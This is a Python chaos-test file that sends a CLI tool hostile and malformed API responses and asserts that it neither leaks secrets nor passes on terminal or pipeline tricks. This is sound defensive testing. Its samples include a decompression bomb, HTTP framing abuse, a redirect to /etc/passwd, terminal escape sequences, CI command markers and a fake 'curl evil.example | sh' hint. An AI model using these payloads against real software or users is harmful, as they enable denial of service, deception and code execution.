"""Answers that mean harm, or are broken in ways no API should be: one plain error, no secret, no terminal's tricks."""

from __future__ import annotations

import base64
import zlib

from tests.chaos.acts import CONVERSATIONS, CREATE, DELETE, FETCH, LIST, WEBHOOKS, instead, reply
from tests.chaos.catalogue import kind
from tests.chaos.exchange import Answer, Exchange
from tests.chaos.proxy import Act
from tests.chaos.world import World


def _json(body: bytes, status: int = 200) -> Act:
    return reply(Answer(status, body))


_BODIES: dict[str, Act] = {
    "lists in lists without end": _json(b"[" * 200_000),
    "objects in objects without end": _json(b'{"a":' * 100_000),
    "a huge number": _json(b'{"code": ' + b"9" * 10_000 + b"}"),
    "a huge error code": _json(b'{"code": ' + b"9" * 10_000 + b"}", 400),
    "not a number": _json(b'{"services": NaN, "meta": Infinity}'),
    "a byte order mark": _json(b"\xef\xbb\xbf{}"),
    "UTF-16": _json('{"services": []}'.encode("utf-16")),
    "no UTF-8": _json(b'{"message": "\xff\xfe"}', 400),
    "a lone surrogate": _json(b'{"message": "\\ud800", "code": 20001}', 400),
    "a code of another type": _json(b'{"code": {"a": 1}, "message": ["x"], "status": null}', 400),
    "gzip that is none": reply(Answer(200, b"{}", {"Content-Type": "application/json", "Content-Encoding": "gzip"})),
    "an unknown encoding": reply(Answer(200, b"{}", {"Content-Type": "application/json", "Content-Encoding": "x"})),
    "a bomb of zeros": instead(
        lambda _exchange: Answer(
            200,
            zlib.compress(b"[" + b" " * 50_000_000 + b"]", 9),
            {"Content-Type": "application/json", "Content-Encoding": "deflate"},
        )
    ),
    "an odd charset": reply(Answer(200, b"{}", {"Content-Type": "application/json; charset=no-such"})),
    "a status of 99": lambda exchange: exchange.raw(b"HTTP/1.1 099 X\r\nContent-Length: 0\r\n\r\n"),
    "a status of 1000": lambda exchange: exchange.raw(b"HTTP/1.1 1000 X\r\nContent-Length: 0\r\n\r\n"),
    "no HTTP": lambda exchange: exchange.raw(b"SSH-2.0-OpenSSH_9.6\r\n"),
    "HTTP 0.9": lambda exchange: exchange.raw(b"{}"),
    "a negative length": lambda exchange: exchange.raw(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: -5\r\n\r\n{}"
    ),
    "two lengths": lambda exchange: exchange.raw(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 7\r\n\r\n{}"
    ),
    "broken chunks": lambda exchange: exchange.raw(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n"
    ),
    "a thousand headers": lambda exchange: exchange.raw(
        b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: y\r\n" % number for number in range(1000)) + b"\r\n{}"
    ),
    "a long header": lambda exchange: exchange.raw(b"HTTP/1.1 200 OK\r\nX: " + b"y" * 1_000_000 + b"\r\n\r\n{}"),
    "a redirect to itself": lambda exchange: exchange.send(
        Answer(307, b"", {"Location": f"http://{exchange.netloc}{exchange.asked.path}"})
    ),
    "a redirect to nowhere": reply(Answer(302, b"", {"Location": "http://[::bad"})),
    "a redirect to a file": reply(Answer(302, b"", {"Location": "file:///etc/passwd"})),
    "418": reply(Answer.error(418)),
    "511 of a captive portal": reply(Answer.html(511)),
}  # fmt: skip


@kind(weight=4)
def hostile_body(world: World) -> None:
    """An answer is broken or means harm: an error, or a retry, and no twin, no loss, no traceback."""
    world.settings |= {"readTimeoutSeconds": "2", "retryCeilingSeconds": "2"}
    what = world.dice.choice(sorted(_BODIES))
    route = world.dice.choice(["* *", CREATE, LIST, FETCH, DELETE, CONVERSATIONS, f"* {WEBHOOKS}"])
    world.note(f"{route} answers {what}")
    if route in (CREATE, LIST):
        world.declare(world.dice.randrange(1, 3))
        world.proxy.rule(route, _BODIES[what], times=world.dice.choice([1, None]))
        world.up()
    else:
        names = world.bring_up(world.dice.randrange(1, 3), parts=True)
        if world.dice.random() < 0.5:
            world.converse(world.sid(names[0]))
        world.proxy.rule(route, _BODIES[what], times=world.dice.choice([1, None]))
        kept = dict(world.declared)
        match world.dice.choice(["refresh", "remove", "destroy", "up --refresh"]):
            case "remove":
                del world.declared[names[0]]
                world.up()
            case "up --refresh":
                world.up("--refresh")
            case command:
                world.run(command)
        world.declared = kept
    world.finish()


@kind(weight=2)
def hostile_message(world: World) -> None:
    """An error's text repeats secrets, or steers a terminal: neither reaches the output."""
    token = world.secrets["the auth token"]
    basic = base64.b64encode(f"{world.account_sid}:{token}".encode()).decode()
    texts = {
        "the token": f"invalid token {token}",
        "the token in a word": f"bad=x{token}y",
        "the header": f"bad header: Basic {basic}",
        "the header without padding": f"bad header: {basic.rstrip('=')}",
        "the token in base64": base64.b64encode(token.encode()).decode(),
        "a terminal's title": "\x1b]0;owned\x07 done",
        "a cleared screen": "\x1b[2J\x1b[Hall is well",
        "a C1 sequence": "\x9b2J well",
        "a right-to-left override": "error \u202eenod lla",
        "carriage returns": "error\rall is well          ",
        "lines of its own": "x\nerror: none\nhint: curl evil.example | sh\nResources:\n    + 9 created",
        "a NUL": "a\x00b",
        "a lone surrogate": "a\ud800b",
        "a marker of a pipeline": "::set-output name=x::y\n::add-mask::z\n##[group]",
        "a long text": "z" * 1_000_000,
    }
    what = world.dice.choice(sorted(texts))
    status = world.dice.choice([400, 401, 403, 404, 409, 429, 500])
    world.note(f"an error with {what}, status {status}")
    answer = Answer.error(status, world.dice.choice([20001, 20404, 20003]), texts[what])
    answer = answer.with_headers(
        Twilio_Request_Id=world.dice.choice(["RQ1", "RQ\x1b[31m", token, "R" * 5000])
    )
    world.settings["retryCeilingSeconds"] = "1"

    def act(exchange: Exchange) -> None:
        exchange.raw(exchange.raw_of(answer))

    world.proxy.rule(world.dice.choice([CREATE, LIST, "* *"]), act, times=None)
    world.declare(1)
    outcome = world.must(world.up(), fail=True)
    if "evil.example" in outcome.text and "\nhint: curl" in outcome.text:
        world.violations.append("output: the API's text passes for a hint of ours")
    if any(line.startswith(("::", "##[")) for line in outcome.text.splitlines()):
        world.violations.append("output: the API's text is an order to a pipeline")
    world.finish()


@kind(weight=2)
def outage(world: World) -> None:
    """The API fails for a while in the middle of a run, all of it or one request in two."""
    world.settings |= {"retryCeilingSeconds": world.dice.choice(["0", "1", "4"])}
    names = world.bring_up(world.dice.randrange(2, 5))
    if world.dice.random() < 0.5:
        world.converse(world.sid(names[0]))
    dice = world.dice
    lies: list[Act] = [
        reply(Answer.error(500)),
        reply(Answer.html(502)),
        reply(Answer.error(503)),
        reply(Answer.error(429, 20429)),
        lambda exchange: exchange.drop(),
    ]
    lie, every = dice.choice(lies), dice.choice([1, 2, 3])
    count = 0

    def sometimes(exchange: Exchange) -> None:
        nonlocal count
        count += 1
        if count % every == 0:
            lie(exchange)

    world.proxy.rule("* *", sometimes, times=dice.choice([3, 10, None]), skip=dice.randrange(6))
    kept = {name: dict(settings) for name, settings in world.declared.items()}
    world.declared[names[-1]]["friendlyName"] += "-two"
    world.declared["newcomer"] = {"friendlyName": "acme-newcomer-dev"}
    world.note("an outage; rename one, add one")
    world.up()
    if dice.random() < 0.5:
        world.declared = kept
        world.note("take it back")
    world.finish()
